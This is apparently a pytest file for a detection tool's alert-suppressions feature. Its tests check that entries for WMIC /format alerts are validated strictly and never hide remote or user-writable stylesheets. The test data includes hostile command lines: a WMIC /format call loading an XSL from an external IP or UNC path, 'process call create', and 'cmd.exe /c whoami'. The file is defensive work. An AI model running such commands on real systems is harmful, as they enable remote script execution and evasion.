r"""The suppressions file: what it refuses, what an entry covers, and what it can never touch."""

from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from connectors.model import Alert, AssessmentKind
from runner.suppressing import suppress
from runner.suppression_file import Suppressions, SuppressionShape, read_suppressions, read_text
from runner.suppression_text import NotWritten, appended, text_of_entries, write_text
from runner.wmic import Seen, TriageContext, assess, shape_of
from tests.test_wmic_properties import CONTEXTS, OWN_FILES, REMOTE, lines

TODAY = date(2026, 11, 25)
AGENT = r"C:\Program Files\Example Inventory\agent.exe"
LINE = r'wmic process list brief /format:"C:\Program Files\Example Inventory\report.xsl"'
BENIGN, SUSPICIOUS = AssessmentKind.BENIGN, AssessmentKind.SUSPICIOUS
ENTRY = SuppressionShape(
    id="inventory",
    search="wmic_format_hits",
    parent=AGENT,
    account=r"CORP\svc-inventory",
    shape=shape_of(LINE).text or "",
    owner="alex",
    reason="nightly inventory",
    created="2026-11-25",
    expires="2027-02-23",
    test=(LINE,),
)
ALERT = Alert(
    id="a1",
    siem="splunk",
    search="wmic_format_hits",
    raw={"ParentImage": AGENT},
    host="WS-1",
    user=r"CORP\svc-inventory",
    cmdline=LINE,
    parent=f'"{AGENT}" -nightly',
)


def read(*entries: SuppressionShape, today: date = TODAY) -> Suppressions:
    return read_text(text_of_entries(entries), "s.yaml", today)


def judged(alert: Alert, known: Suppressions, today: date = TODAY, **seen: Any) -> AssessmentKind:
    context = TriageContext(**seen)
    return suppress(assess(alert, context), (alert,), known, today, context).assessment


# -- the reader ------------------------------------------------------------------------------------


def test_entry_that_is_written_is_read_back_as_it_was() -> None:
    entry = replace(ENTRY, hosts=("WS-1",), never=("wmic os get x",), reason="it's: # fine")
    (found,) = read(entry).entries
    assert (found.id, found.parent, found.account) == (
        "inventory",
        AGENT.lower(),
        r"corp\svc-inventory",
    )
    assert (found.shape, found.reason, found.hosts) == (ENTRY.shape, "it's: # fine", ("WS-1",))
    assert (found.created, found.expires) == (TODAY, date(2027, 2, 23))


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"parent": "agent.exe"}, "parent is no full path"),
        ({"parent": r"C:\Program Files\*\agent.exe"}, "parent holds a pattern"),
        ({"parent": r"\\server\share\agent.exe"}, "parent is no full path"),
        ({"account": "*"}, "account holds a pattern"),
        ({"hosts": ("WS-*",)}, "hosts holds a pattern"),
        ({"shape": "wmic *"}, "has another shape"),
        ({"shape": "wmic process list brief"}, "has another shape"),
        ({"test": ("wmic os get x",)}, "has another shape, wmic os get x"),
        ({"never": (LINE.upper(),)}, "would be suppressed"),
        ({"expires": "2027-11-26"}, "expires is not within a year"),
        ({"expires": "2026-11-25"}, "expires is not within a year"),
        ({"created": "2030-01-01", "expires": "2030-02-01"}, "created lies in the future"),
        ({"created": "2026-13-01"}, "created is no day"),
        ({"expires": "soon"}, "a day, as 2026-11-25"),
    ],
)
def test_entry_is_refused_with_what_and_where(changes: dict[str, Any], says: str) -> None:
    known = read(replace(ENTRY, **changes))
    assert known.entries == ()
    assert says in "\n".join(known.faults)
    assert known.faults[0].startswith("s.yaml:")


@pytest.mark.parametrize(
    "line",
    [
        "wmic os get x /format:http://192.0.2.7/a.xsl",
        r"wmic os get x /format:\\192.0.2.7\s\a.xsl",
        r"wmic os get x /format:%TEMP%\a.xsl",
        r"wmic os get x /format:C:\Users\Public\a.xsl",
        "wmic process call create calc.exe",
    ],
)
def test_line_that_must_always_be_judged_is_refused_as_a_test_line(line: str) -> None:
    known = read(replace(ENTRY, test=(line,), shape=line))
    assert "a test line can be suppressed by nothing" in known.faults[0]


@pytest.mark.parametrize(
    "key", ["owner", "reason", "expires", "created", "test", "parent", "shape"]
)
def test_entry_without_a_key_is_refused(key: str) -> None:
    text = text_of_entries([ENTRY])
    kept = [line for line in text.splitlines() if not line.strip("- ").startswith(f"{key}:")]
    known = read_text("\n".join(kept), "s.yaml", TODAY)
    assert known.entries == ()
    assert known.faults


def test_one_fault_makes_the_whole_file_unusable_and_the_alert_says_so() -> None:
    known = read(ENTRY, replace(ENTRY, id="other", parent="agent.exe"))
    made = suppress(assess(ALERT), (ALERT,), known, TODAY)
    assert made.assessment == SUSPICIOUS
    assert made.suppression is None
    assert "cannot be used" in made.reasons[-1].text


def test_two_entries_with_one_id_or_one_meaning_are_refused() -> None:
    assert read(ENTRY, replace(ENTRY, shape="x")).faults
    twin = replace(ENTRY, id="twin", parent=AGENT.upper())
    assert "covers the same" in read(ENTRY, twin).faults[0]
    assert read(ENTRY, replace(twin, hosts=("WS-1",))).faults == ()


def test_missing_file_and_one_of_comments_hold_nothing(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    assert read_suppressions(None, TODAY) == Suppressions()
    assert read_suppressions(file, TODAY).is_missing
    file.write_text("# nothing yet\n\n")
    assert read_suppressions(file, TODAY).faults == ()
    file.chmod(0o666)
    assert "others may change it" in read_suppressions(file, TODAY).faults[0]
    file.chmod(0o600)
    file.write_bytes(b"\xff")
    assert "UTF-8" in read_suppressions(file, TODAY).faults[0]


# -- what an entry covers --------------------------------------------------------------------------


def test_alert_that_fits_is_benign_and_says_by_whom_and_until_when() -> None:
    made = suppress(assess(ALERT), (ALERT,), read(ENTRY), TODAY)
    assert (made.assessment, made.suppression, made.score) == (BENIGN, "inventory", 24)
    assert made.summary == (
        "Suppressed by inventory (owner alex, until 2027-02-23): nightly inventory."
    )
    assert sum(reason.weight for reason in made.reasons) + 40 == 24
    assert suppress(made, (ALERT,), read(ENTRY), TODAY) == made


@pytest.mark.parametrize(
    "changes",
    [
        {"search": "other"},
        {"user": r"CORP\svc-other"},
        {"user": "svc-inventory"},
        {"user": None},
        {"raw": {"ParentImage": r"C:\Temp\agent.exe"}},
        {"raw": {}, "parent": "agent.exe"},
        {"raw": {}, "parent": None},
        {"raw": {"ParentImage": "-"}},
        {"cmdline": LINE.replace("report.xsl", "other.xsl")},
        {"cmdline": LINE.replace("process", "service")},
        {"cmdline": f"{LINE} /format:{LINE[-50:]}"},
        {"cmdline": None},
    ],
)
def test_alert_that_differs_in_one_thing_is_judged(changes: dict[str, Any]) -> None:
    assert judged(ALERT, read(ENTRY)) == BENIGN
    assert judged(replace(ALERT, **changes), read(ENTRY)) != BENIGN


def test_entry_for_named_hosts_holds_for_no_other() -> None:
    known = read(replace(ENTRY, hosts=("WS-1", "ws-2.example.test")))
    for host, kind in (("ws-1", BENIGN), ("WS-2.example.test", BENIGN), ("WS-3", SUSPICIOUS)):
        assert judged(replace(ALERT, host=host), known) == kind
    assert judged(replace(ALERT, host=None), known) == SUSPICIOUS


def test_entry_holds_until_the_day_on_which_it_ends() -> None:
    known = read(ENTRY)
    for days, kind in ((-1, SUSPICIOUS), (0, BENIGN), (89, BENIGN), (90, SUSPICIOUS)):
        assert judged(ALERT, known, TODAY + timedelta(days=days)) == kind


def test_every_alert_of_the_case_must_fit() -> None:
    other = replace(ALERT, user=r"CORP\ann")
    made = suppress(assess(ALERT), (ALERT, other), read(ENTRY), TODAY)
    assert made.assessment == SUSPICIOUS


def test_what_the_process_did_is_never_suppressed() -> None:
    fetched = (Seen(r"C:\Users\a\INetCache\IE\X\a[1].xsl", "e1"),)
    assert judged(ALERT, read(ENTRY), files=fetched) != BENIGN
    # Raised no further than suspicious, and still not suppressed.
    child = (Seen("cmd.exe /c whoami", "e1"),)
    benign = replace(ALERT, cmdline="wmic process list brief /format:csv")
    entry = replace(ENTRY, test=(benign.cmdline,), shape="wmic process list brief /format:csv")
    assert judged(benign, read(entry), children=child) == SUSPICIOUS


def test_event_that_names_another_parent_is_never_suppressed() -> None:
    assert judged(ALERT, read(ENTRY), parent=r"C:\Temp\evil.exe") != BENIGN


@settings(max_examples=200)
@given(lines(REMOTE), CONTEXTS)
def test_no_entry_hides_a_remote_stylesheet(line: str, context: TriageContext) -> None:
    """Not even one that was made for the line and has passed the reader by another door."""
    alert = replace(ALERT, cmdline=line)
    (entry,) = read(ENTRY).entries
    for shape in (str(shape_of(line).text), line, ""):
        known = Suppressions(entries=(replace(entry, shape=shape),))
        made = suppress(assess(alert, context), (alert,), known, TODAY, context)
        assert made.assessment == AssessmentKind.MALICIOUS
        assert made.suppression is None


@settings(max_examples=200)
@given(lines(OWN_FILES), st.sampled_from(["", " /format:csv", "\t"]))
def test_no_entry_hides_a_stylesheet_that_users_may_write(line: str, more: str) -> None:
    alert = replace(ALERT, cmdline=line + more)
    (entry,) = read(ENTRY).entries
    found = shape_of(alert.cmdline).text
    known = Suppressions(entries=(replace(entry, shape=found or ""),))
    made = suppress(assess(alert), (alert,), known, TODAY)
    named = (found or "").rpartition("/format:")[2]
    assert made.suppression is None or named.strip('"').startswith("d:\\windows\\system32\\wbem\\")


# -- writing ---------------------------------------------------------------------------------------


def test_entries_are_appended_and_comments_stay(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    old = "# ours\n" + text_of_entries([ENTRY]) + "  # last word\n"
    file.write_text(old)
    file.chmod(0o640)
    known = read_suppressions(file, TODAY)
    new = appended(known, [replace(ENTRY, id="two", account="x")], TODAY)
    write_text(file, known, new)
    assert file.read_text().startswith(old)
    assert [one.id for one in read_suppressions(file, TODAY).entries] == ["inventory", "two"]
    assert file.stat().st_mode & 0o777 == 0o640
    assert list(tmp_path.iterdir()) == [file]


def test_file_that_changed_since_it_was_shown_is_left_alone(tmp_path: Path) -> None:
    file = tmp_path / "s.yaml"
    known = read_suppressions(file, TODAY)
    new = appended(known, [ENTRY], TODAY)
    file.write_text("# somebody else\n")
    with pytest.raises(NotWritten, match="changed in the meantime"):
        write_text(file, known, new)
    assert file.read_text() == "# somebody else\n"


@pytest.mark.parametrize("text", ["[]\n", "- {id: a}\n"])
def test_file_to_which_nothing_can_be_appended_is_left_alone(text: str) -> None:
    with pytest.raises(NotWritten):
        appended(read_text(text, "s.yaml", TODAY), [ENTRY], TODAY)


def test_file_that_cannot_be_written_is_one_sentence(tmp_path: Path) -> None:
    known = Suppressions(is_missing=True)
    with pytest.raises(NotWritten, match="cannot be written: No such file"):
        write_text(tmp_path / "no" / "s.yaml", known, appended(known, [ENTRY], TODAY))
